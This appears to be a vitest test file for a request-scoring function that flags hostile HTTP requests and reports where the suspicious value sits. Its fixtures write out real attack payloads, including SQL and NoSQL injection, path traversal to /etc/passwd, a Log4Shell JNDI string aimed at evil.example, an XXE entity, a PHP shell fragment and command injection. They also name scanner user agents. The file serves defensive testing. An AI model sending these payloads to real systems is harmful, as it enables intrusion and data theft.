import { describe, expect, it } from 'vitest'
import { assessRequest, blockAt, type RequestParts } from './index.ts'

const browser = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36'
const ordinary: RequestParts = {
  method: 'GET',
  path: '/api/crm/search',
  query: 'q=Miller%20%26%20Sons&limit=20&cursor=eyJpZCI6NDJ9',
  headers: {
    host: 'crm.example.com',
    accept: 'text/html,application/xhtml+xml,*/*;q=0.8',
    'accept-language': 'en-GB,en;q=0.9',
    'user-agent': browser,
    cookie: 'session=s%3AqJ8fK2mN4pR6tV8xZ0.kLmNoPqRs; theme=dark',
    'sec-ch-ua': '"Chromium";v="140", "Not=A?Brand";v="24"',
  },
}
const withBody = (contentType: string, text: string): RequestParts => ({ ...ordinary, method: 'POST', query: '', body: { contentType, text } })
const places = (parts: RequestParts) => assessRequest(parts).reasons.map(({ where }) => where)
const attack = '%27%20union%20select%20null--'

it('passes an ordinary request without a reason', () => {
  expect(assessRequest(ordinary)).toEqual({ score: 0, reasons: [] })
})

describe('says where', () => {
  it.each<[string, RequestParts]>([
    ['query.id', { ...ordinary, query: `a=1&id=${attack}` }],
    ['query.user[$ne]', { ...ordinary, query: 'user[$ne]=x' }],
    ['path', { ...ordinary, path: '/api/../../etc/passwd' }],
    ['path', { ...ordinary, path: `/api/contacts/${attack}` }],
    ['path', { ...ordinary, path: '/.git/config' }],
    ['header.x-search', { ...ordinary, headers: { ...ordinary.headers, 'x-search': "' or 1=1--" } }],
    ['header.user-agent', { ...ordinary, headers: { ...ordinary.headers, 'user-agent': 'sqlmap/1.7' } }],
    ['header.user-agent', { ...ordinary, headers: { ...ordinary.headers, 'user-agent': 'nuclei' } }],
    ['header.user-agent', { ...ordinary, headers: { ...ordinary.headers, 'user-agent': '$' + '{jndi:ldap://x/a}' } }],
    ['header.cookie.theme', { ...ordinary, headers: { cookie: "theme=' or 1=1--" } }],
    ['header.accept', { ...ordinary, headers: { accept: '../../../etc/passwd{{7*7}}' } }],
    ['body.a.b', withBody('application/json', `{"a":{"b":"<script>alert(1)</script>"}}`)],
    ['body.a', withBody('application/json', '{"a":["x",{"a":1},"; cat /etc/passwd"]}')],
    ['body.__proto__', withBody('application/json', '{"__proto__":{"admin":true}}')],
    ['body.user.$ne', withBody('application/json', '{"user":{"$ne":null}}')],
    ['body.name', withBody('application/x-www-form-urlencoded', `name=${attack}`)],
    [
      'body.file',
      withBody('multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="file"; filename="../../etc/passwd"\r\n\r\nhello\r\n--x--'),
    ],
    ['body.file', withBody('multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="file"\r\n\r\n<?php system("x") ?>\r\n--x--')],
    ['body', withBody('text/xml', '<?xml version="1.0"?><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>')],
    ['body', withBody('', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')],
  ])('%s', (where, parts) => {
    expect(assessRequest(parts).score).toBeGreaterThanOrEqual(blockAt)
    expect(places(parts)).toContain(where)
  })
})

it('leaves alone what is exempt', () => {
  const parts = { ...ordinary, query: `q=${attack}&id=1` }
  expect(assessRequest(parts).score).toBeGreaterThanOrEqual(blockAt)
  expect(assessRequest({ ...parts, exemptQueryParameters: new Set(['q']) })).toEqual({ score: 0, reasons: [] })
  expect(assessRequest({ ...ordinary, query: `q=x&id=${attack}`, exemptQueryParameters: new Set(['q']) }).score).toBeGreaterThanOrEqual(blockAt)
})

it.each([
  'https://www.google.com/search?q=o%27reilly+books+%26+more&hl=en',
  'https://example.com/blog/why-select-from-is-slow?utm_source=a%20select%20b%20from%20c',
  'https://www.google.com/search?q=union+select+committee+%22tom+%26+jerry%22;+drop+by',
])('passes a visitor who comes from %s', (referer) => {
  expect(assessRequest({ ...ordinary, headers: { ...ordinary.headers, referer } }).score).toBeLessThan(blockAt)
})

it('blocks a Referer that is an attack', () => {
  expect(assessRequest({ ...ordinary, headers: { referer: 'http://x/$' + '{jndi:ldap://evil.example/a}' } }).score).toBeGreaterThanOrEqual(blockAt)
})

it('takes a body that does not parse as text', () => {
  expect(assessRequest(withBody('application/json', `{"a": "' union select 1,2--`)).score).toBeGreaterThanOrEqual(blockAt)
})

it('reads what a parser made of the body, when there is one', () => {
  const parts: RequestParts = { ...ordinary, body: { contentType: 'application/json', parsed: { a: [{ b: '<script>alert(1)</script>' }] } } }
  expect(places(parts)).toEqual(['body.a.b'])
})

it('finds the last of very many values, and ends on nested and huge bodies', () => {
  const many = Object.fromEntries(Array.from({ length: 2_000 }, (_, index) => [`key${index}`, 'plain text']))
  expect(
    assessRequest({ ...ordinary, body: { contentType: 'application/json', parsed: { ...many, last: '<script>alert(1)</script>' } } }).score,
  ).toBeGreaterThanOrEqual(blockAt)
  const nested = `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`
  expect(assessRequest(withBody('application/json', nested)).score).toBeLessThan(blockAt)
  expect(assessRequest(withBody('', 'lorem ipsum dolor '.repeat(200_000))).score).toBeLessThan(blockAt)
})
